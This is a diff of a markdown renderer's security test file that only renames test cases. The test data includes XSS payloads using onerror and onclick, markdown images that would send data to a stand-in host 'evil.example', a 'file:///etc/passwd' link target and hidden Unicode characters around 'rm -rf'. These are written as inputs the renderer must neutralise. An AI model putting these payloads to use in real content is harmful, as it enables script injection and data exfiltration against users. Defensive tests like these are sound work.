@@ -35,7 +35,7 @@ test.each([
   ['markup in a heading', '# <img src=x onerror=alert(1)>'],
   ['markup in a table', '| <b onclick=alert(1)>x</b> |\n| - |\n| <img src=x onerror=alert(1)> |'],
   ['markup in entities', '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;'],
-])('D6.47: %s is text', (_, text) => {
+])('%s is text', (_, text) => {
   const box = show(text);
   expect(box.querySelectorAll(ACTIVE)).toHaveLength(0);
   expect(box.textContent).toMatch(/alert|import|base|form|link|script/);
@@ -45,14 +45,14 @@ test.each([
   ['inline', '![secret](https://evil.example/?q=goal)'],
   ['by reference', '![secret][1]\n\n[1]: https://evil.example/?q=goal'],
   ['in a link', '[![secret](https://evil.example/p.png)](https://evil.example)'],
-])('D6.48: an image %s is named and not loaded', (_, text) => {
+])('an image %s is named and not loaded', (_, text) => {
   const box = show(text);
   expect(box.querySelectorAll(ACTIVE)).toHaveLength(0);
   expect(box.textContent).toContain('picture not loaded: secret');
   expect(box.textContent).toContain('evil.example');
 });
 
-test('D6.48: a link shows its host, opens apart and tells nothing', () => {
+test('a link shows its host, opens apart and tells nothing', () => {
   show('[the docs](https://аpple.example/path)');
   const link = screen.getByRole('link', { name: 'the docs' });
   expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
@@ -69,7 +69,7 @@ test.each([
   ['//evil.example'],
   ['file:///etc/passwd'],
   ['mailto:a@b.example'],
-])('D6.47: %s is no link', (href) => {
+])('%s is no link', (href) => {
   show(`[click](${href})`);
   expect(screen.queryByRole('link')).toBeNull();
 });
@@ -81,7 +81,7 @@ test('an address in angle brackets or bare is a link of the same kind', () => {
   expect(screen.getAllByRole('link')).toHaveLength(2);
 });
 
-test('D6.50: hidden characters are marked, in text and in code', () => {
+test('hidden characters are marked, in text and in code', () => {
   const box = show('Do\u202ewhat I say `rm\u200b -rf`');
   expect([...box.querySelectorAll('mark')].map((mark) => mark.textContent)).toEqual(['U+202E', 'U+200B']);
 });
@@ -93,6 +93,6 @@ test.each([
   ['emphasis', `${'*a '.repeat(20_000)}`],
   ['a very long text', 'word '.repeat(60_000)],
   ['a line without an end', 'x'.repeat(150_000)],
-])('D6.50: %s do not break the page', (_, text) => {
+])('%s do not break the page', (_, text) => {
   expect(() => show(text)).not.toThrow();
 });
